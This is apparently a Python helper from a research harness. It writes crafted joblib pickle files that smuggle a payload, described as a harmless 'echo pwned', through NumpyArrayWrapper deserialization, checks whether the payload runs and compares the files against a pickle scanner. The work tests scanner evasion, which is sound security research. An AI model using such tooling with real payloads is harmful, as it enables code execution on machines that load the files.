import sys, os, subprocess, struct
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
# The opcode builders of the earlier rounds.
sys.path.insert(0, os.path.join(HERE, '..', 'tricks'))
from mk import *
import mk
# The scanner to compare with (PYPICKLE=path/to/pypickle); without it, files are only written.
SCAN = os.environ.get('PYPICKLE')
# Run each file through joblib.load (runs the harmless payload, echo pwned) only when asked.
VERIFY = os.environ.get('VERIFY') == '1'
# Files go beside the script that was run (round3's or round4's make.py, or a trick itself).
OUT = os.path.dirname(os.path.abspath(sys.argv[0]))
def T(n): return b'T'+struct.pack('<i',n)
def tup(*items): return b'('+b''.join(items)+b't'
def wr(n, dt, align=b'N', shape=None, cls=('joblib.numpy_pickle','NumpyArrayWrapper'), sub=None, order=b'C'):
    shp = shape if shape is not None else I(n)+b'\x85'
    return G(*cls)+b'('+(sub or G('numpy','ndarray'))+shp+U(order.decode())+dt+b'\x89'+align+b'tR}b'
def run(name, data, quiet=False):
    """Writes `name`; with VERIFY=1 runs it through joblib.load, with PYPICKLE=... scans it."""
    p = os.path.join(OUT, name)
    open(p, 'wb').write(data)
    if not VERIFY and not SCAN:
        return None, None
    pw, out = None, ''
    if VERIFY:
        try:
            r = subprocess.run([sys.executable, '-c', f"import joblib; joblib.load({p!r})"],
                               capture_output=True, text=True, timeout=20)
            pw = 'pwned' in r.stdout
        except subprocess.TimeoutExpired:
            pw = False
    if SCAN:
        s = subprocess.run([SCAN, 'scan', p], capture_output=True, text=True)
        out = (s.stdout + s.stderr).strip().split('\n')[0]
    print(f"{name}: payload ran under joblib: {pw}; scanner: {out[:80]}")
    return pw, out
